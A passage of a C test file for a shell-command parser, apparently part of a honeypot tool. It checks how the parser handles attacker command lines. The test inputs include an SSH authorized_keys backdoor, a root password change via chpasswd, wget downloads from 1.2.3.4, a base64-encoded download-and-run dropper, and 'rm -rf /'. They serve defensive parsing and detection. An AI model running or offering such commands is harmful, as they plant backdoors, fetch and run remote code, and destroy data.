/* test_shell.c — pins the shell reader (shell.h): statement texts and byte offsets, command
 * names behind wrappers, argv after quote removal, redirections and here-documents, and the
 * children found inside substitutions, loops, groups, `sh -c`, `eval`, here-documents and
 * base64/printf droppers (via bits, depth, parent). Also hostile input: unbalanced quotes, NUL
 * bytes, 16 MB inputs, deep nesting, the depth and statement bounds.
 *
 * `test_shell bench` instead parses a realistic mix of honeypot lines repeatedly and prints the
 * statements per second (parse only, then parse + normalise). */
#include <time.h>

#include "check.h"
#include "understand/normalise.h"
#include "understand/shell.h"

static ap_arena A;
static ap_stmt *S;
static size_t N;
static int TR;

static size_t parse_with(const char *in, size_t len, unsigned depth, size_t max_statements)
{
    ap_shell_limits lim = {depth, max_statements};
    ap_arena_reset(&A);
    S = NULL;
    N = 0;
    TR = -1;
    ap_status st = ap_shell_parse(ap_str_make(in, len), &lim, &A, &S, &N, &TR);
    if (st != AP_OK) {
        check_failed_++;
        fprintf(stderr, "ap_shell_parse failed: %d\n", (int)st);
    }
    return N;
}

static size_t parse(const char *in) { return parse_with(in, strlen(in), 0, 0); }

/* NUL-terminated copy of a view (for CHECK_EQ_STR). */
static const char *z(ap_str s)
{
    if (!s.p)
        return "(null)";
    ap_str d = ap_arena_dup(&A, s);
    return d.p ? d.p : "(nomem)";
}

static void fail(int line, const char *what, size_t i)
{
    check_failed_++;
    fprintf(stderr, "%s:%d: statement %zu: %s\n", __FILE__, line, i, what);
}

#define EXPECT(...) expect_stmt(__LINE__, __VA_ARGS__)
static void expect_stmt(int line, size_t i, const char *text, unsigned start, unsigned end,
                        const char *cmd, int depth, int parent, unsigned via, ap_connector conn)
{
    if (i >= N) {
        fail(line, "missing", i);
        return;
    }
    const ap_stmt *s = &S[i];
    char buf[512];
    int ok = 1;
#define FIELD(cond, fmt, ...)                                                                    \
    if (!(cond)) {                                                                               \
        snprintf(buf, sizeof buf, fmt, __VA_ARGS__);                                             \
        fail(line, buf, i);                                                                      \
        ok = 0;                                                                                  \
    }
    FIELD(strcmp(z(s->text), text) == 0, "text \"%s\" != \"%s\"", z(s->text), text);
    FIELD(s->start == start && s->end == end, "range %u-%u != %u-%u", s->start, s->end, start, end);
    FIELD(strcmp(z(s->cmd), cmd) == 0, "cmd \"%s\" != \"%s\"", z(s->cmd), cmd);
    FIELD(s->depth == depth, "depth %d != %d", (int)s->depth, depth);
    FIELD(s->parent == parent, "parent %d != %d", (int)s->parent, parent);
    FIELD(s->via == via, "via %#x != %#x", s->via, via);
    FIELD(s->conn == conn, "conn %d != %d", (int)s->conn, (int)conn);
#undef FIELD
    if (ok)
        check_passed_++;
}

#define ARGV(i, ...) expect_argv(__LINE__, i, (const char *const[]){__VA_ARGS__, NULL})
static void expect_argv(int line, size_t i, const char *const *words)
{
    if (i >= N) {
        fail(line, "missing", i);
        return;
    }
    const ap_stmt *s = &S[i];
    size_t k = 0;
    for (; words[k]; k++) {
        if (k >= s->argc || strcmp(z(s->argv[k]), words[k]) != 0) {
            char buf[512];
            snprintf(buf, sizeof buf, "argv[%zu] \"%s\" != \"%s\"", k,
                     k < s->argc ? z(s->argv[k]) : "(none)", words[k]);
            fail(line, buf, i);
            return;
        }
    }
    if (k != s->argc || s->argv[k].p != NULL) {
        char buf[64];
        snprintf(buf, sizeof buf, "argc %zu != %zu", s->argc, k);
        fail(line, buf, i);
        return;
    }
    check_passed_++;
}

#define REDIR(i, r, op, target) expect_redir(__LINE__, i, r, op, target)
static void expect_redir(int line, size_t i, size_t r, const char *op, const char *target)
{
    if (i >= N || r >= S[i].nredir) {
        fail(line, "missing redirection", i);
        return;
    }
    if (strcmp(z(S[i].redir[r].op), op) != 0 || strcmp(z(S[i].redir[r].target), target) != 0) {
        char buf[512];
        snprintf(buf, sizeof buf, "redir %zu \"%s\" \"%s\" != \"%s\" \"%s\"", r,
                 z(S[i].redir[r].op), z(S[i].redir[r].target), op, target);
        fail(line, buf, i);
        return;
    }
    check_passed_++;
}

/* Invariants every parse must hold (also checked by the fuzz target). */
static void check_invariants(size_t input_len, unsigned max_depth)
{
    int ok = 1;
    for (size_t i = 0; i < N && ok; i++) {
        const ap_stmt *s = &S[i];
        ok = s->start <= s->end && s->end <= input_len && s->depth <= max_depth &&
             s->parent < (int32_t)i && s->parent >= -1 && s->argv && s->argv[s->argc].p == NULL &&
             s->cmd_index <= (s->argc ? s->argc - 1 : 0);
        if (!ok)
            fprintf(stderr, "invariant broken at statement %zu\n", i);
    }
    CHECK(ok);
}

static const char *b64_wget = "d2dldCBodHRwOi8vMS4yLjMuNC94LnNoOyBjaG1vZCAreCB4LnNoOyAuL3guc2g=";

/* ---- splitting and offsets -------------------------------------------------------------- */

static void test_pipeline(void)
{
    CHECK_EQ_INT(parse("cat /proc/cpuinfo | grep name | wc -l"), 3);
    EXPECT(0, "cat /proc/cpuinfo", 0, 17, "cat", 0, -1, 0, AP_CONN_PIPE);
    EXPECT(1, "grep name", 20, 29, "grep", 0, -1, 0, AP_CONN_PIPE);
    EXPECT(2, "wc -l", 32, 37, "wc", 0, -1, 0, AP_CONN_END);
    ARGV(0, "cat", "/proc/cpuinfo");
    ARGV(2, "wc", "-l");
    CHECK_EQ_STR(z(S[0].pipe_to), "grep");
    CHECK_EQ_STR(z(S[1].pipe_to), "wc");
    CHECK_EQ_INT(S[2].pipe_to.n, 0);
    CHECK_EQ_INT(TR, 0);
}

static void test_lockr_is_not_ssh(void)
{
    CHECK_EQ_INT(parse("cd ~; chattr -ia .ssh; lockr -ia .ssh"), 3);
    EXPECT(0, "cd ~", 0, 4, "cd", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(1, "chattr -ia .ssh", 6, 21, "chattr", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(2, "lockr -ia .ssh", 23, 37, "lockr", 0, -1, 0, AP_CONN_END);
    ARGV(2, "lockr", "-ia", ".ssh");
}

static void test_mdrfckr(void)
{
    const char *in = "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA... mdrfckr\">>"
                     ".ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~";
    CHECK_EQ_INT(parse(in), 6);
    EXPECT(0, "cd ~", 0, 4, "cd", 0, -1, 0, AP_CONN_AND);
    EXPECT(1, "rm -rf .ssh", 8, 19, "rm", 0, -1, 0, AP_CONN_AND);
    EXPECT(2, "mkdir .ssh", 23, 33, "mkdir", 0, -1, 0, AP_CONN_AND);
    EXPECT(3, "echo \"ssh-rsa AAAA... mdrfckr\">>.ssh/authorized_keys", 37, 89, "echo", 0, -1, 0,
           AP_CONN_AND);
    ARGV(3, "echo", "ssh-rsa AAAA... mdrfckr");
    CHECK_EQ_INT(S[3].nredir, 1);
    REDIR(3, 0, ">>", ".ssh/authorized_keys");
    EXPECT(4, "chmod -R go= ~/.ssh", 93, 112, "chmod", 0, -1, 0, AP_CONN_AND);
    ARGV(4, "chmod", "-R", "go=", "~/.ssh");
    EXPECT(5, "cd ~", 116, 120, "cd", 0, -1, 0, AP_CONN_END);
}

static void test_chpasswd_pipe(void)
{
    CHECK_EQ_INT(parse("echo \"root:Xy7pQ\"|chpasswd|bash"), 3);
    EXPECT(0, "echo \"root:Xy7pQ\"", 0, 17, "echo", 0, -1, 0, AP_CONN_PIPE);
    ARGV(0, "echo", "root:Xy7pQ");
    EXPECT(1, "chpasswd", 18, 26, "chpasswd", 0, -1, 0, AP_CONN_PIPE);
    EXPECT(2, "bash", 27, 31, "bash", 0, -1, 0, AP_CONN_END); /* chpasswd's output: unknown */
    CHECK_EQ_STR(z(S[0].pipe_to), "chpasswd");
}

static void test_busybox(void)
{
    CHECK_EQ_INT(parse("/bin/busybox wget http://1.2.3.4/x; /bin/busybox ECCHI"), 2);
    EXPECT(0, "/bin/busybox wget http://1.2.3.4/x", 0, 34, "wget", 0, -1, 0, AP_CONN_SEMI);
    CHECK_EQ_INT(S[0].cmd_index, 1);
    ARGV(0, "/bin/busybox", "wget", "http://1.2.3.4/x");
    EXPECT(1, "/bin/busybox ECCHI", 36, 54, "ECCHI", 0, -1, 0, AP_CONN_END);
    CHECK_EQ_INT(S[1].cmd_index, 1);
    CHECK_EQ_INT(parse("busybox"), 1);
    EXPECT(0, "busybox", 0, 7, "busybox", 0, -1, 0, AP_CONN_END);
}

static void test_blanks_and_connectors(void)
{
    CHECK_EQ_INT(parse("  a  ;   b &&c||  d & e |& f\n\n g  "), 7);
    EXPECT(0, "a", 2, 3, "a", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(1, "b", 9, 10, "b", 0, -1, 0, AP_CONN_AND);
    EXPECT(2, "c", 13, 14, "c", 0, -1, 0, AP_CONN_OR);
    EXPECT(3, "d", 18, 19, "d", 0, -1, 0, AP_CONN_BG);
    EXPECT(4, "e", 22, 23, "e", 0, -1, 0, AP_CONN_PIPE);
    EXPECT(5, "f", 27, 28, "f", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(6, "g", 31, 32, "g", 0, -1, 0, AP_CONN_END);
    CHECK_EQ_INT(parse(""), 0);
    CHECK_EQ_INT(parse(" \t\n ;; ; & "), 0);
    CHECK_EQ_INT(parse("# just a comment\n   # another"), 0);
    CHECK_EQ_INT(parse("ls # rm -rf /\necho a#b"), 2);
    ARGV(0, "ls");
    EXPECT(1, "echo a#b", 14, 22, "echo", 0, -1, 0, AP_CONN_END);
    ARGV(1, "echo", "a#b");
    CHECK_EQ_INT(parse("cd /tmp || cd /var/tmp\r\n"), 2);
    EXPECT(1, "cd /var/tmp", 11, 22, "cd", 0, -1, 0, AP_CONN_SEMI);
    ARGV(1, "cd", "/var/tmp");
}

/* ---- quoting ---------------------------------------------------------------------------- */

static void test_quotes(void)
{
    CHECK_EQ_INT(parse("echo 'a b'\"c d\"\\ e $'\\x41\\n\\101\\u00e9' $\"x\" '' \"\""), 1);
    ARGV(0, "echo", "a bc d e", "A\nA\xc3\xa9", "x", "", "");
    CHECK_EQ_INT(parse("echo \"a\\$b \\\"c\\\" \\\\ \\x $HOME ${X:-y}\""), 1);
    ARGV(0, "echo", "a$b \"c\" \\ \\x $HOME ${X:-y}");
    /* line continuation joins words, quotes and escapes keep separators literal */
    CHECK_EQ_INT(parse("ec\\\nho hi\\;there 'a;b' \"c|d\""), 1);
    EXPECT(0, "ec\\\nho hi\\;there 'a;b' \"c|d\"", 0, 28, "echo", 0, -1, 0, AP_CONN_END);
    ARGV(0, "echo", "hi;there", "a;b", "c|d");
    /* \wget bypasses aliases: still wget */
    CHECK_EQ_INT(parse("\\wget -q x; 'c'url y; $'\\x77get' z"), 3);
    CHECK_EQ_STR(z(S[0].cmd), "wget");
    CHECK_EQ_STR(z(S[1].cmd), "curl");
    CHECK_EQ_STR(z(S[2].cmd), "wget");
    /* unquoted words that need no quote removal are views into the input (no copy) */
    const char *in = "uname -a";
    parse(in);
    CHECK(S[0].argv[1].p == in + 6);
}

static void test_unbalanced(void)
{
    CHECK_EQ_INT(parse("echo 'abc; ls"), 1);
    EXPECT(0, "echo 'abc; ls", 0, 13, "echo", 0, -1, 0, AP_CONN_END);
    ARGV(0, "echo", "abc; ls");
    CHECK_EQ_INT(parse("echo \"a $(ls ; id"), 3);
    ARGV(0, "echo", "a $(ls ; id");
    EXPECT(1, "ls", 10, 12, "ls", 1, 0, AP_VIA_SUBST, AP_CONN_SEMI);
    EXPECT(2, "id", 15, 17, "id", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    CHECK_EQ_INT(parse("a ) b ; } ; fi ; done ; esac ; ( c"), 3);
    EXPECT(0, "a", 0, 1, "a", 0, -1, 0, AP_CONN_END);
    EXPECT(1, "b", 4, 5, "b", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(2, "c", 33, 34, "c", 1, -1, AP_VIA_GROUP, AP_CONN_END);
    CHECK_EQ_INT(parse("echo `id"), 2);
    EXPECT(1, "id", 6, 8, "id", 1, 0, AP_VIA_SUBST, AP_CONN_END);
}

static void test_nul_and_binary(void)
{
    static const char in[] = "a\0b; c\0d \"x\0\xff\xfe";
    CHECK_EQ_INT(parse_with(in, sizeof in - 1, 0, 0), 2);
    CHECK_EQ_INT(S[0].text.n, 3);
    CHECK(memcmp(S[0].argv[0].p, "a\0b", 3) == 0);
    CHECK_EQ_INT(S[0].start, 0);
    CHECK_EQ_INT(S[0].end, 3);
    CHECK_EQ_INT(S[1].start, 5);
    CHECK_EQ_INT(S[1].end, 14);
    CHECK_EQ_INT(S[1].argc, 2);
    CHECK_EQ_INT(S[1].argv[1].n, 4);
    check_invariants(sizeof in - 1, 6);
}

/* ---- words, assignments, redirections --------------------------------------------------- */

static void test_assignments(void)
{
    CHECK_EQ_INT(parse("FOO=1 BAR=\"x y\" env X=2 wget -q u"), 1);
    EXPECT(0, "FOO=1 BAR=\"x y\" env X=2 wget -q u", 0, 33, "wget", 0, -1, 0, AP_CONN_END);
    CHECK_EQ_INT(S[0].nassign, 2);
    CHECK_EQ_STR(z(S[0].assign[0]), "FOO=1");
    CHECK_EQ_STR(z(S[0].assign[1]), "BAR=x y");
    ARGV(0, "env", "X=2", "wget", "-q", "u");
    CHECK_EQ_INT(S[0].cmd_index, 2);
    CHECK_EQ_INT(parse("A=1; x=$(id) echo a=b"), 3);
    EXPECT(0, "A=1", 0, 3, "", 0, -1, 0, AP_CONN_SEMI);
    CHECK_EQ_INT(S[0].argc, 0);
    CHECK_EQ_INT(S[0].nassign, 1);
    EXPECT(1, "x=$(id) echo a=b", 5, 21, "echo", 0, -1, 0, AP_CONN_END);
    ARGV(1, "echo", "a=b");
    EXPECT(2, "id", 9, 11, "id", 1, 1, AP_VIA_SUBST, AP_CONN_END);
    CHECK_EQ_INT(parse("arr=(1 2 3); echo ${arr[1]}"), 2);
    CHECK_EQ_STR(z(S[0].assign[0]), "arr=(1 2 3)");
    ARGV(1, "echo", "${arr[1]}");
}

static void test_redirections(void)
{
    CHECK_EQ_INT(parse("cmd 2>&1 >/dev/null 2> e &>x &>>y >|z < in 3<>w >&2 >& f 1>>log echo 2 >o"),
                 1);
    ARGV(0, "cmd", "echo", "2");
    CHECK_EQ_INT(S[0].nredir, 12);
    REDIR(0, 0, "2>&1", "");
    REDIR(0, 1, ">", "/dev/null");
    REDIR(0, 2, "2>", "e");
    REDIR(0, 3, "&>", "x");
    REDIR(0, 4, "&>>", "y");
    REDIR(0, 5, ">|", "z");
    REDIR(0, 6, "<", "in");
    REDIR(0, 7, "3<>", "w");
    REDIR(0, 8, ">&2", "");
    REDIR(0, 9, ">&", "f");
    REDIR(0, 10, "1>>", "log");
    REDIR(0, 11, ">", "o");
    /* a bare redirection is a statement without a command */
    CHECK_EQ_INT(parse(">/tmp/x; cat <<< \"hi there\""), 2);
    EXPECT(0, ">/tmp/x", 0, 7, "", 0, -1, 0, AP_CONN_SEMI);
    REDIR(0, 0, ">", "/tmp/x");
    REDIR(1, 0, "<<<", "hi there");
    CHECK_EQ_INT(parse("diff <(ls /a) >(tee x)"), 3);
    ARGV(0, "diff", "<(ls /a)", ">(tee x)");
    EXPECT(1, "ls /a", 7, 12, "ls", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(2, "tee x", 16, 21, "tee", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    CHECK_EQ_INT(parse("[[ -f x && $a < b ]] && rm x"), 2);
    ARGV(0, "[[", "-f", "x", "&&", "$a", "<", "b", "]]");
    EXPECT(0, "[[ -f x && $a < b ]]", 0, 20, "[[", 0, -1, 0, AP_CONN_AND);
    ARGV(1, "rm", "x");
}

static void test_heredoc_authorized_keys(void)
{
    const char *in = "cat > ~/.ssh/authorized_keys <<EOF\n"
                     "ssh-rsa AAAAB3NzaC1yc2E key1\n"
                     "EOF\n"
                     "chmod 600 ~/.ssh/authorized_keys";
    CHECK_EQ_INT(parse(in), 2);
    EXPECT(0, "cat > ~/.ssh/authorized_keys <<EOF", 0, 34, "cat", 0, -1, 0, AP_CONN_SEMI);
    CHECK_EQ_INT(S[0].nredir, 2);
    REDIR(0, 0, ">", "~/.ssh/authorized_keys");
    REDIR(0, 1, "<<", "ssh-rsa AAAAB3NzaC1yc2E key1\n");
    EXPECT(1, "chmod 600 ~/.ssh/authorized_keys", 68, 100, "chmod", 0, -1, 0, AP_CONN_END);
    /* <<- strips leading tabs; quoted delimiter; body ends at the delimiter line */
    CHECK_EQ_INT(parse("cat <<-'X' >f; echo ok\n\tline1\n\t\tline2\n\tX\nid"), 3);
    REDIR(0, 0, "<<-", "line1\nline2\n");
    REDIR(0, 1, ">", "f");
    EXPECT(1, "echo ok", 15, 22, "echo", 0, -1, 0, AP_CONN_SEMI);
    EXPECT(2, "id", 41, 43, "id", 0, -1, 0, AP_CONN_END);
    /* an unterminated body runs to the end of the input */
    CHECK_EQ_INT(parse("cat <<E\nabc\ndef"), 1);
    REDIR(0, 0, "<<", "abc\ndef");
}

/* ---- command names behind wrappers ------------------------------------------------------ */

static void test_wrappers(void)
{
    static const struct {
        const char *in, *cmd;
        size_t index;
    } cases[] = {
        {"sudo -u root nohup busybox wget x", "wget", 5},
        {"sudo -E -- ./run.sh", "run.sh", 3},
        {"env -i PATH=/x timeout -s KILL 10 nice -n 5 stdbuf -oL wget x", "wget", 12},
        {"chroot /mnt setsid time -p command exec -a n curl x", "curl", 9},
        {"nice -19 /usr/bin/perl x", "perl", 2},
        {"command -v wget", "command", 0},
        {"xargs rm -f", "xargs", 0},
        {"nohup", "nohup", 0},
        {"timeout 5", "timeout", 0},
        {"/bin/", "/bin/", 0},
        {"doas sh -c id", "sh", 1},
    };
    for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
        parse(cases[k].in);
        CHECK(N >= 1);
        if (N >= 1 &&
            (strcmp(z(S[0].cmd), cases[k].cmd) != 0 || S[0].cmd_index != cases[k].index)) {
            fprintf(stderr, "wrapper case \"%s\": cmd \"%s\"@%zu\n", cases[k].in, z(S[0].cmd),
                    S[0].cmd_index);
            check_failed_++;
        } else {
            check_passed_++;
        }
    }
}

/* ---- walking into compound commands ----------------------------------------------------- */

static void test_for_loop(void)
{
    CHECK_EQ_INT(parse("for i in a b; do wget http://x/$i; done"), 1);
    EXPECT(0, "wget http://x/$i", 17, 33, "wget", 1, -1, AP_VIA_LOOP, AP_CONN_SEMI);
    ARGV(0, "wget", "http://x/$i");
    CHECK_EQ_INT(parse("for f in $(ls /tmp); do rm $f; done; echo end"), 3);
    EXPECT(0, "ls /tmp", 11, 18, "ls", 1, -1, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(1, "rm $f", 24, 29, "rm", 1, -1, AP_VIA_LOOP, AP_CONN_SEMI);
    EXPECT(2, "echo end", 37, 45, "echo", 0, -1, 0, AP_CONN_END);
    CHECK_EQ_INT(parse("for ((i=0;i<3;i++)); do echo $i; done"), 1);
    EXPECT(0, "echo $i", 24, 31, "echo", 1, -1, AP_VIA_LOOP, AP_CONN_SEMI);
    CHECK_EQ_INT(parse("cat list | while read h; do ssh $h id; done"), 3);
    EXPECT(0, "cat list", 0, 8, "cat", 0, -1, 0, AP_CONN_PIPE);
    EXPECT(1, "read h", 17, 23, "read", 1, -1, AP_VIA_LOOP, AP_CONN_SEMI);
    EXPECT(2, "ssh $h id", 28, 37, "ssh", 1, -1, AP_VIA_LOOP, AP_CONN_SEMI);
    CHECK_EQ_INT(parse("until false\ndo\n  sleep 1\ndone &"), 2);
    EXPECT(1, "sleep 1", 17, 24, "sleep", 1, -1, AP_VIA_LOOP, AP_CONN_SEMI);
}

static void test_if_case_groups(void)
{
    CHECK_EQ_INT(
        parse("if [ $(id -u) -eq 0 ]; then echo root; elif true; then :; else echo user; fi"), 6);
    EXPECT(0, "[ $(id -u) -eq 0 ]", 3, 21, "[", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(1, "id -u", 7, 12, "id", 2, 0, AP_VIA_GROUP | AP_VIA_SUBST, AP_CONN_END);
    EXPECT(2, "echo root", 28, 37, "echo", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(3, "true", 44, 48, "true", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(4, ":", 55, 56, ":", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(5, "echo user", 63, 72, "echo", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    CHECK_EQ_INT(parse("case $(uname -m) in x86_64) wget a;; arm*|mips) wget b ;; (*) exit;; esac"),
                 4);
    EXPECT(0, "uname -m", 7, 15, "uname", 1, -1, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(1, "wget a", 28, 34, "wget", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(2, "wget b", 48, 54, "wget", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(3, "exit", 62, 66, "exit", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    CHECK_EQ_INT(
        parse("{ cd /tmp; (wget x || curl x) }; f() { rm -rf /; }; function g { id; }; f"), 6);
    EXPECT(0, "cd /tmp", 2, 9, "cd", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(1, "wget x", 12, 18, "wget", 2, -1, AP_VIA_GROUP, AP_CONN_OR);
    EXPECT(2, "curl x", 22, 28, "curl", 2, -1, AP_VIA_GROUP, AP_CONN_END);
    EXPECT(3, "rm -rf /", 39, 47, "rm", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(4, "id", 65, 67, "id", 1, -1, AP_VIA_GROUP, AP_CONN_SEMI);
    EXPECT(5, "f", 72, 73, "f", 0, -1, 0, AP_CONN_END);
}

static void test_substitutions(void)
{
    CHECK_EQ_INT(parse("echo `id` $(uname -a; $(whoami)) \"$(hostname)\""), 6);
    EXPECT(0, "echo `id` $(uname -a; $(whoami)) \"$(hostname)\"", 0, 46, "echo", 0, -1, 0,
           AP_CONN_END);
    ARGV(0, "echo", "`id`", "$(uname -a; $(whoami))", "$(hostname)");
    EXPECT(1, "id", 6, 8, "id", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(2, "uname -a", 12, 20, "uname", 1, 0, AP_VIA_SUBST, AP_CONN_SEMI);
    EXPECT(3, "$(whoami)", 22, 31, "$(whoami)", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(4, "whoami", 24, 30, "whoami", 2, 3, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(5, "hostname", 36, 44, "hostname", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    /* arithmetic and parameter expansion are not commands */
    CHECK_EQ_INT(parse("echo $((1+2)) ${x:-$(id)}"), 1);
    /* backticks with escapes: the body is unescaped, so its range is the parent's */
    CHECK_EQ_INT(parse("echo `echo \\`id\\``"), 3);
    EXPECT(1, "echo `id`", 0, 18, "echo", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(2, "id", 0, 18, "id", 2, 1, AP_VIA_SUBST, AP_CONN_END);
}

/* ---- unwrapping and decoding ------------------------------------------------------------ */

static void test_sh_c(void)
{
    CHECK_EQ_INT(parse("sh -c 'uname -a; nproc'"), 3);
    EXPECT(0, "sh -c 'uname -a; nproc'", 0, 23, "sh", 0, -1, 0, AP_CONN_END);
    EXPECT(1, "uname -a", 0, 23, "uname", 1, 0, AP_VIA_SH_C, AP_CONN_SEMI);
    EXPECT(2, "nproc", 0, 23, "nproc", 1, 0, AP_VIA_SH_C, AP_CONN_END);
    CHECK_EQ_INT(parse("ls; /bin/busybox sh -c \"cd /tmp && bash -lc 'wget x'\" &"), 5);
    EXPECT(1, "/bin/busybox sh -c \"cd /tmp && bash -lc 'wget x'\"", 4, 53, "sh", 0, -1, 0,
           AP_CONN_BG);
    EXPECT(2, "cd /tmp", 4, 53, "cd", 1, 1, AP_VIA_SH_C, AP_CONN_AND);
    EXPECT(3, "bash -lc 'wget x'", 4, 53, "bash", 1, 1, AP_VIA_SH_C, AP_CONN_END);
    EXPECT(4, "wget x", 4, 53, "wget", 2, 3, AP_VIA_SH_C, AP_CONN_END);
    CHECK_EQ_INT(parse("sh script.sh; bash -x ./a; curl x | sh; su -c 'id' root"), 6);
    EXPECT(4, "su -c 'id' root", 40, 55, "su", 0, -1, 0, AP_CONN_END);
    EXPECT(5, "id", 40, 55, "id", 1, 4, AP_VIA_SH_C, AP_CONN_END);
    CHECK_EQ_INT(parse("eval \"wget x; id\"; eval echo hi"), 5);
    EXPECT(1, "wget x", 0, 17, "wget", 1, 0, AP_VIA_EVAL, AP_CONN_SEMI);
    EXPECT(2, "id", 0, 17, "id", 1, 0, AP_VIA_EVAL, AP_CONN_END);
    EXPECT(4, "echo hi", 19, 31, "echo", 1, 3, AP_VIA_EVAL, AP_CONN_END);
}

static void test_base64_pipe(void)
{
    char in[256];
    snprintf(in, sizeof in, "echo %s | base64 -d | bash", b64_wget);
    CHECK_EQ_INT(parse(in), 6);
    EXPECT(0, "echo d2dldCBodHRwOi8vMS4yLjMuNC94LnNoOyBjaG1vZCAreCB4LnNoOyAuL3guc2g=", 0, 69,
           "echo", 0, -1, 0, AP_CONN_PIPE);
    EXPECT(1, "base64 -d", 72, 81, "base64", 0, -1, 0, AP_CONN_PIPE);
    EXPECT(2, "bash", 84, 88, "bash", 0, -1, 0, AP_CONN_END);
    EXPECT(3, "wget http://1.2.3.4/x.sh", 84, 88, "wget", 1, 2, AP_VIA_BASE64, AP_CONN_SEMI);
    EXPECT(4, "chmod +x x.sh", 84, 88, "chmod", 1, 2, AP_VIA_BASE64, AP_CONN_SEMI);
    EXPECT(5, "./x.sh", 84, 88, "x.sh", 1, 2, AP_VIA_BASE64, AP_CONN_END);
    /* other decoders, missing padding and whitespace, busybox sh */
    static const char *const variants[] = {
        "echo 'aWQ7 dW5h bWUgLWE' | base64 --decode | sh",
        "printf aWQ7dW5hbWUgLWE= | base64 -D | busybox sh",
        "echo aWQ7dW5hbWUgLWE= | openssl base64 -d | dash -s",
        "echo aWQ7dW5hbWUgLWE= | openssl enc -base64 -d | sudo bash",
        "echo aWQ7dW5hbWUgLWE= | base64 -di | cat | ash -",
    };
    for (size_t k = 0; k < sizeof variants / sizeof variants[0]; k++) {
        parse(variants[k]);
        size_t found = 0;
        for (size_t i = 0; i < N; i++)
            if (S[i].depth == 1 && (S[i].via & AP_VIA_BASE64) &&
                (strcmp(z(S[i].text), "id") == 0 || strcmp(z(S[i].text), "uname -a") == 0))
                found++;
        if (found != 2)
            fprintf(stderr, "base64 variant %zu: %zu decoded statements\n", k, found);
        CHECK_EQ_INT(found, 2);
    }
    /* not decoded: a file in between, invalid base64, no shell at the end */
    CHECK_EQ_INT(parse("echo aWQ= | base64 -d > /tmp/x; sh /tmp/x"), 3);
    CHECK_EQ_INT(parse("echo '!!!' | base64 -d | sh"), 3);
    CHECK_EQ_INT(parse("echo aWQ= | base64 -d"), 2);
    CHECK_EQ_INT(parse("base64 -d f | sh"), 2);
    /* nested: decoded text that is itself a dropper */
    CHECK_EQ_INT(parse("echo ZWNobyBhV1E9IHwgYmFzZTY0IC1kIHwgc2g= | base64 -d | sh"), 7);
    EXPECT(6, "id", 56, 58, "id", 2, 5, AP_VIA_BASE64, AP_CONN_END);
}

static void test_decoded_forms(void)
{
    CHECK_EQ_INT(parse("$(echo d2dldA== | base64 -d) http://x"), 4);
    EXPECT(0, "$(echo d2dldA== | base64 -d) http://x", 0, 37, "$(echo d2dldA== | base64 -d)", 0, -1,
           0, AP_CONN_END);
    EXPECT(1, "echo d2dldA==", 2, 15, "echo", 1, 0, AP_VIA_SUBST, AP_CONN_PIPE);
    EXPECT(2, "base64 -d", 18, 27, "base64", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(3, "wget http://x", 0, 37, "wget", 1, 0, AP_VIA_SUBST | AP_VIA_BASE64, AP_CONN_END);
    CHECK_EQ_INT(parse("sh -c \"$(echo aWQ7dW5hbWU= | base64 -d)\""), 5);
    EXPECT(1, "echo aWQ7dW5hbWU=", 9, 26, "echo", 1, 0, AP_VIA_SUBST, AP_CONN_PIPE);
    EXPECT(3, "id", 0, 40, "id", 1, 0, AP_VIA_SH_C | AP_VIA_BASE64, AP_CONN_SEMI);
    EXPECT(4, "uname", 0, 40, "uname", 1, 0, AP_VIA_SH_C | AP_VIA_BASE64, AP_CONN_END);
    CHECK_EQ_INT(parse("bash <<< $(base64 -d <<< aWQ7dW5hbWU=)"), 4);
    EXPECT(1, "base64 -d <<< aWQ7dW5hbWU=", 11, 37, "base64", 1, 0, AP_VIA_SUBST, AP_CONN_END);
    EXPECT(2, "id", 0, 38, "id", 1, 0, AP_VIA_HEREDOC | AP_VIA_BASE64, AP_CONN_SEMI);
    EXPECT(3, "uname", 0, 38, "uname", 1, 0, AP_VIA_HEREDOC | AP_VIA_BASE64, AP_CONN_END);
    CHECK_EQ_INT(parse("eval $(echo aWQ= | base64 -d); . <(echo aWQ= | base64 -d)"), 8);
    EXPECT(3, "id", 0, 29, "id", 1, 0, AP_VIA_EVAL | AP_VIA_BASE64, AP_CONN_END);
    EXPECT(7, "id", 31, 57, "id", 1, 4, AP_VIA_SUBST | AP_VIA_BASE64, AP_CONN_END);
    /* a plain $(echo x) hides nothing: no rebuilt statement */
    CHECK_EQ_INT(parse("cd $(echo /tmp)"), 2);
}

static void test_printf_droppers(void)
{
    CHECK_EQ_INT(parse("printf '\\x69\\x64; \\167ho' | sh"), 4);
    EXPECT(2, "id", 28, 30, "id", 1, 1, AP_VIA_PRINTF, AP_CONN_SEMI);
    EXPECT(3, "who", 28, 30, "who", 1, 1, AP_VIA_PRINTF, AP_CONN_END);
    CHECK_EQ_INT(parse("echo -e '\\x69\\x64\\n\\0167ho' | bash"), 4);
